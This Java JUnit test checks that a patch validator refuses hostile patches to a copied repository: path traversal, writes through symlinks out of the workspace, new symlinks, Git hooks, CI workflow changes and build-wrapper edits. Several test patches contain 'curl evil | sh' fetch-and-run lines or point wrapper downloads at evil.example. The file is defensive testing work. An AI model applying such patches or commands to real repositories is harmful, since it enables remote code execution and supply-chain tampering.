package dev.repofix.patch;

import static org.assertj.core.api.Assertions.assertThat;

import dev.repofix.workspace.TestRepo;
import dev.repofix.workspace.TreeSnapshot;
import dev.repofix.workspace.Workspace;
import dev.repofix.workspace.Workspaces;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.eclipse.jgit.api.errors.GitAPIException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Patches that try to write where a patch may not, applied as the validator applies them:
 * to a copy of a user's repository made by {@link Workspaces}. The repository holds links
 * out of it (to a folder outside, to a secret, back into the user's own tree) as a hostile
 * one would. Each patch is refused naming why, and the copy, the user's tree and the
 * folder outside are exactly as they were.
 */
class HostilePatchTest {
    private static final String SECRET = "TOKEN-outside-4b1d\n";

    @TempDir
    Path base;

    private Path user;
    private Path outside;
    private Workspace workspace;
    private Path copy;

    @BeforeEach
    void setUp() throws IOException, GitAPIException {
        outside = Files.createDirectories(base.resolve("outside"));
        Files.writeString(outside.resolve("secret.txt"), SECRET);
        user = base.resolve("user");
        try (TestRepo repo = TestRepo.init(user)) {
            repo.write("src/App.java", "class App {}\n")
                    .write("mvnw", "exec java -jar .mvn/wrapper/maven-wrapper.jar \"$@\"\n").executable("mvnw")
                    .write(".mvn/wrapper/maven-wrapper.properties", "distributionUrl=https://repo.example/maven.zip\n")
                    .write("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https://repo.example/gradle.zip\n")
                    .write(".github/workflows/ci.yml", "on: push\n")
                    .symlink("out", outside.toString())
                    .symlink("secret", outside.resolve("secret.txt").toString())
                    .symlink("self", user.toString())
                    .commit("a repository with links out of it");
        }
        workspace = new Workspaces(base.resolve("tmp"), Duration.ofSeconds(30)).open(user.toString(), Optional.empty());
        copy = workspace.newCopy("hostile");
    }

    @AfterEach
    void tearDown() {
        workspace.close();
    }

    static Stream<Arguments> hostilePatches() {
        return Stream.of(
                hostile("an absolute path", "absolute path ",
                        outside -> "--- /dev/null\n+++ " + outside + "/pwned.txt\n@@ -0,0 +1 @@\n+pwned\n"),
                hostile("an absolute path in an edit block", "absolute path ",
                        outside -> outside + "/secret.txt\n<<<<<<< SEARCH\nTOKEN-outside-4b1d\n=======\npwned\n"
                                + ">>>>>>> REPLACE\n"),
                hostile("a path up and out", "path leaves the workspace: ",
                        outside -> "--- /dev/null\n+++ b/src/../../outside/pwned.txt\n@@ -0,0 +1 @@\n+pwned\n"),
                hostile("a new file through a linked folder out", "path goes through a symlink out of the workspace: ",
                        outside -> "--- /dev/null\n+++ b/out/pwned.txt\n@@ -0,0 +1 @@\n+pwned\n"),
                hostile("an edit of a linked file out", "path goes through a symlink out of the workspace: ",
                        outside -> "--- a/secret\n+++ b/secret\n@@ -1 +1 @@\n-TOKEN-outside-4b1d\n+pwned\n"),
                hostile("a deletion of a linked file out", "path goes through a symlink out of the workspace: ",
                        outside -> "diff --git a/secret b/secret\ndeleted file mode 100644\n"),
                hostile("an edit of the user's own tree through a link", "path goes through a symlink out of the workspace: ",
                        outside -> "--- a/self/src/App.java\n+++ b/self/src/App.java\n@@ -1 +1 @@\n-class App {}\n"
                                + "+class Pwned {}\n"),
                hostile("a new symlink (git mode 120000)", "symbolic links are not supported: `new file mode 120000`",
                        outside -> "diff --git a/evil b/evil\nnew file mode 120000\nindex 0000000..1b2c3d4\n--- /dev/null\n"
                                + "+++ b/evil\n@@ -0,0 +1 @@\n+" + outside + "\n\\ No newline at end of file\n"),
                hostile("a file turned into a symlink", "symbolic links are not supported: `new mode 120000`",
                        outside -> "diff --git a/src/App.java b/src/App.java\nold mode 100644\nnew mode 120000\n"
                                + "--- a/src/App.java\n+++ b/src/App.java\n@@ -1 +1 @@\n-class App {}\n+" + outside + "\n"),
                hostile("a Git hook", "Git internals may not be patched: ",
                        outside -> "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
                hostile("a Git hook behind a trailing dot", "Git internals may not be patched: ",
                        outside -> "--- /dev/null\n+++ b/.git./hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
                hostile("a workflow", "CI configuration may not be patched: ",
                        outside -> "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n"
                                + "-on: push\n+on: pull_request_target\n"),
                hostile("the Maven wrapper script", "build wrapper or extension may not be patched: ",
                        outside -> "--- a/mvnw\n+++ b/mvnw\n@@ -1 +1 @@\n-exec java -jar .mvn/wrapper/maven-wrapper.jar"
                                + " \"$@\"\n+curl evil | sh\n"),
                hostile("the Maven wrapper's download", "build wrapper or extension may not be patched: ",
                        outside -> "--- a/.mvn/wrapper/maven-wrapper.properties\n+++ b/.mvn/wrapper/maven-wrapper.properties\n"
                                + "@@ -1 +1 @@\n-distributionUrl=https://repo.example/maven.zip\n"
                                + "+distributionUrl=https://evil.example/maven.zip\n"),
                hostile("the Gradle wrapper's download", "build wrapper or extension may not be patched: ",
                        outside -> "--- a/gradle/wrapper/gradle-wrapper.properties\n"
                                + "+++ b/gradle/wrapper/gradle-wrapper.properties\n@@ -1 +1 @@\n"
                                + "-distributionUrl=https://repo.example/gradle.zip\n"
                                + "+distributionUrl=https://evil.example/gradle.zip\n"),
                hostile("a new Gradle wrapper in a module", "build wrapper or extension may not be patched: ",
                        outside -> "--- /dev/null\n+++ b/module/gradlew\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
                hostile("a fair edit with a wrapper edit after it", "build wrapper or extension may not be patched: ",
                        outside -> "--- a/src/App.java\n+++ b/src/App.java\n@@ -1 +1 @@\n-class App {}\n+class App { }\n"
                                + "--- a/mvnw\n+++ b/mvnw\n@@ -1 +1 @@\n-exec java -jar .mvn/wrapper/maven-wrapper.jar"
                                + " \"$@\"\n+curl evil | sh\n"));
    }

    private interface PatchFor {
        String text(Path outside);
    }

    private static Arguments hostile(String name, String reason, PatchFor patch) {
        return Arguments.of(Named.of(name, patch), reason);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostilePatches")
    void refusesAndTouchesNoTree(PatchFor patch, String reason) throws IOException {
        List<String> userBefore = TreeSnapshot.of(user);
        List<String> outsideBefore = TreeSnapshot.of(outside);
        List<String> copyBefore = TreeSnapshot.of(copy);

        ApplyResult result = new PatchApplier().apply(copy, patch.text(outside));

        assertThat(result).isInstanceOfSatisfying(ApplyResult.NotApplied.class,
                n -> assertThat(n.reason()).startsWith(reason));
        assertThat(TreeSnapshot.of(copy)).isEqualTo(copyBefore);
        assertThat(TreeSnapshot.of(user)).isEqualTo(userBefore);
        assertThat(TreeSnapshot.of(outside)).isEqualTo(outsideBefore);
        assertThat(outside.resolve("secret.txt")).hasContent(SECRET.strip());
    }
}
